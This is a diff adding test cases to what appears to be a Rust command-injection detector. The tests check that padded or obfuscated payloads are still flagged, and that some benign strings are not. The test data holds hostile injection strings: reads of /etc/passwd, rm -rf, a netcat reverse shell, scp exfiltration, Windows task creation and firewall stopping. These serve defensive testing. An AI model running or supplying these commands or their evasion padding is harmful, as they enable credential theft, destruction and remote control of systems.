@@ -68,6 +68,43 @@ fn added_commands_are_certain() {
     }
 }
 
+/// What stands between an opener and the command, or behind its arguments, changes nothing.
+#[test]
+fn noise_does_not_lower_a_finding() {
+    let blanks = " ".repeat(100);
+    let assignments = "a=b ".repeat(100);
+    let quotes = "''".repeat(100);
+    for value in [
+        format!("x;{blanks}cat /etc/passwd"),
+        format!("x|\t{blanks}id"),
+        format!("x;{assignments}cat /etc/passwd"),
+        format!("x;{}cat /etc/passwd", "! ".repeat(20)),
+        format!("x;{}cat /etc/passwd", "{ ".repeat(20)),
+        format!("x;{}cat /etc/passwd", "sudo ".repeat(20)),
+        format!("x;{}cat /etc/passwd", "time ".repeat(20)),
+        format!("x;{}cat /etc/passwd", ">a ".repeat(20)),
+        format!("x;{}cat /etc/passwd", "\\\n".repeat(8)),
+        format!("x{}cat /etc/passwd", "\n".repeat(8)),
+        format!("x;c{quotes}at /etc/passwd"),
+        "x;2>/dev/null cat /etc/passwd".to_owned(),
+        "x;</dev/null cat /etc/passwd".to_owned(),
+        "x;cat /etc/passwd a b c d e f".to_owned(),
+        "x;rm -rf /app the quick brown fox jumps".to_owned(),
+        "x|nc 10.0.0.1 4444 -e /bin/sh is what we use".to_owned(),
+        "x;f(){ cat /etc/passwd;};f".to_owned(),
+        "x;until cat /etc/passwd;do :;done".to_owned(),
+        "x;coproc cat /etc/passwd".to_owned(),
+        "x;scp /etc/passwd a@b:".to_owned(),
+        "x&schtasks /create /tn a /tr calc".to_owned(),
+        "x&sc stop firewall".to_owned(),
+        "x&rd /s /q c:\\x".to_owned(),
+        "x;iex $a".to_owned(),
+        "x;Start-Process calc".to_owned(),
+    ] {
+        assert_eq!(confidence(&value), Some(Certain), "{value:?}");
+    }
+}
+
 #[test]
 fn everyday_values_are_not() {
     for value in [
@@ -118,6 +155,11 @@ fn everyday_values_are_not() {
         "4|28940|10142125|||TC||C|||",
         "font: 12px; set; top: 0",
         "vol. 3; ver. 2; ed. 1",
+        "level=info; msg=done user=ann id=5",
+        "turn left at 5th; rd closed",
+        "until then; do nothing",
+        "class A { void f() { cat.feed(); } }",
+        "function () { find(x) }",
     ] {
         assert!(confidence(value) < Some(Certain), "{value:?} {:?}", injection(value.as_bytes()));
     }
